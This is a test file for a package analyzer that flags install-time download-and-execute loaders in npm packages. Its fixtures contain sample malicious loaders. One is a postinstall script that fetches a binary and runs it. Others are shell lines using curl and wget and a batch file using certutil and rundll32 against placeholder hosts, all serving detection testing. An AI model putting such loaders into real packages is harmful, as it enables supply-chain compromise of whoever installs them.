// The staged-loader model (src/analyzers/js/downloads.ts): data fetched at install, written to a
// file and run becomes a download-execution fact; the same code not at install, a download that
// is only unpacked, a run of another file, or bytes checked against a digest first, do not.
import { describe, expect, it } from "vitest";
import { analyze, manifest } from "./helpers.js";

const postinstall = (file: string) => manifest({ postinstall: `node ${file}` });

const TMP_LOADER = `
const https = require('https');
const fs = require('fs');
const os = require('os');
const path = require('path');
const { execFile } = require('child_process');
const target = path.join(os.tmpdir(), 'helper-bin');
https.get('https://cdn.example.invalid/helper', (res) => {
  const out = fs.createWriteStream(target);
  res.pipe(out);
  out.on('finish', () => execFile(target, ['--run'], () => {}));
});
`;

describe("download-execution facts (JS)", () => {
  it("follows a response piped into a file stream to the run of that file", async () => {
    const facts = await analyze({ "package.json": postinstall("setup.js"), "setup.js": TMP_LOADER });
    expect(facts.downloadExecutions).toHaveLength(1);
    const [fact] = facts.downloadExecutions!;
    expect(fact).toMatchObject({ trigger: "install", path: "/tmp/helper-bin", location: { file: "setup.js", line: 11 } });
    expect(fact!.fetch).toMatchObject({ destination: "https://cdn.example.invalid/helper", location: { line: 8 } });
    expect(fact!.verified).toBeUndefined();
    expect(fact!.steps.map((s) => s.note)).toContain("written to /tmp/helper-bin");
  });

  it("gives code that runs on import its own trigger (runtime-download-execute), and never turns fetched data into a credential flow", async () => {
    const notInstall = await analyze({ "index.js": TMP_LOADER });
    expect(notInstall.downloadExecutions?.length).toBeGreaterThan(0);
    expect(new Set(notInstall.downloadExecutions?.map((f) => f.trigger))).toEqual(new Set(["import"]));
    // In a function nothing calls, a fetch and a run are a loader library's job: not followed.
    const onlyCalled = await analyze({ "index.js": `module.exports = function load(u) { return fetch(u).then((r) => r.text()).then(eval); };` });
    expect(onlyCalled.downloadExecutions).toBeUndefined();
    const relay = await analyze({
      "package.json": postinstall("setup.js"),
      "setup.js": `const https = require('https');
https.get('https://a.example.invalid/x', (res) => { const req = https.request('https://b.example.invalid/y', { method: 'POST' }); res.pipe(req); });`,
    });
    expect(relay.flows).toEqual([]);
    expect(relay.sources).toEqual([]);
  });

  it("follows fetch() → arrayBuffer → writeFileSync → spawn, but not a run of another file", async () => {
    const code = (run: string) => `const fs = require('fs'); const { spawn } = require('child_process');
(async () => {
  const res = await fetch('http://203.0.113.9/agent');
  fs.writeFileSync(__dirname + '/agent.bin', Buffer.from(await res.arrayBuffer()));
  spawn(${run}, []);
})();`;
    const run = await analyze({ "package.json": postinstall("i.js"), "i.js": code("__dirname + '/agent.bin'") });
    expect(run.downloadExecutions?.map((f) => [f.path, f.location.line])).toEqual([["<package>/agent.bin", 5]]);
    const other = await analyze({ "package.json": postinstall("i.js"), "i.js": code("__dirname + '/other.bin'") });
    expect(other.downloadExecutions).toBeUndefined();
  });

  it("marks a download whose digest is compared with a constant as verified, not one compared with a fetched digest", async () => {
    const code = (expected: string) => `const https = require('https'); const fs = require('fs'); const crypto = require('crypto');
const { execFileSync } = require('child_process');
https.get('https://dl.example.invalid/tool', (res) => {
  const chunks = [];
  res.on('data', (c) => chunks.push(c));
  res.on('end', () => {
    const body = Buffer.concat(chunks);
    ${expected}
    if (crypto.createHash('sha256').update(body).digest('hex') !== expected) throw new Error('checksum');
    fs.writeFileSync('bin/tool', body);
    execFileSync('bin/tool', ['--version']);
  });
});`;
    const pinned = await analyze({ "package.json": postinstall("i.js"), "i.js": code("const expected = '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08';") });
    expect(pinned.downloadExecutions?.map((f) => f.verified)).toEqual([true]);
    const selfSigned = await analyze({
      "package.json": postinstall("i.js"),
      "i.js": code("let expected; https.get('https://dl.example.invalid/tool.sha256', (r) => r.on('data', (d) => { expected = String(d); }));"),
    });
    expect(selfSigned.downloadExecutions?.map((f) => f.verified)).toEqual([undefined]);
  });

  it("does not report a download that is only unpacked", async () => {
    const facts = await analyze({
      "package.json": postinstall("i.js"),
      "i.js": `const https = require('https'); const tar = require('tar');
https.get('https://github.com/example/x/releases/download/v1/x.tar.gz', (res) => res.pipe(tar.x({ cwd: __dirname })));`,
    });
    expect(facts.downloadExecutions).toBeUndefined();
    expect(facts.sinks).toHaveLength(1);
  });
});

describe("download-execution facts (shell)", () => {
  it("links curl -o / wget / certutil to a later run of that file, across the lines of a script", async () => {
    const facts = await analyze({
      "package.json": manifest({ preinstall: "sh install.sh" }),
      "install.sh": "curl -s http://198.51.100.7/a -o a.bin\nchmod +x a.bin\n./a.bin --go\nwget -q https://x.example.invalid/b.sh\nsh b.sh\ncurl -o c.bin https://x.example.invalid/c\n./d.bin\n",
    });
    expect(facts.downloadExecutions?.map((f) => [f.location.line, f.path, f.note, f.fetch.destination])).toEqual([
      [3, "./a.bin", "runs ./a.bin", "http://198.51.100.7/a"],
      [5, "b.sh", "sh", "https://x.example.invalid/b.sh"],
    ]);
  });

  it("reads batch files a JS install script starts, and regsvr32/rundll32 of a downloaded DLL", async () => {
    const facts = await analyze({
      "package.json": postinstall("pre.js"),
      "pre.js": "require('child_process').exec('setup.bat');",
      "setup.bat": "@echo off\r\ncertutil -urlcache -split -f http://203.0.113.4/x.dll %TEMP%\\x.dll\r\nrundll32 %TEMP%\\x.dll,Start\r\n",
    });
    expect(facts.downloadExecutions?.map((f) => [f.location.file, f.location.line, f.path, f.note])).toEqual([["setup.bat", 3, "%TEMP%/x.dll", "rundll32"]]);
  });
});
